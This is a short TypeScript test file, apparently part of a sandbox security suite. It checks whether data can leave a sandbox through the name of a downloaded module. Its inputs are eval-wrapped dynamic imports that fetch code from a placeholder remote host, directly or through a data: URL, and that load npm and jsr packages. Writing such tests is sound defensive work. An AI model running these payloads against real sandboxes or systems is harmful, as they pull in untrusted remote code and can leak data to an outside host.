/**
 * Data leaves by the name of a module that is downloaded.
 *
 * @module
 */

import { reach } from "./support/reach.ts";
import { securitySuite } from "./support/security_suite.ts";

securitySuite(
  "remote modules",
  reach({
    "a module of an address": "(0, eval)(`import('http://HOST/data.js')`)",
    "a module that imports one":
      "(0, eval)(`import('data:text/javascript,import \"http://HOST/data.js\"')`)",
    "an npm package": "(0, eval)(`import('npm:left-pad')`)",
    "a jsr package": "(0, eval)(`import('jsr:@std/assert')`)",
  }),
);
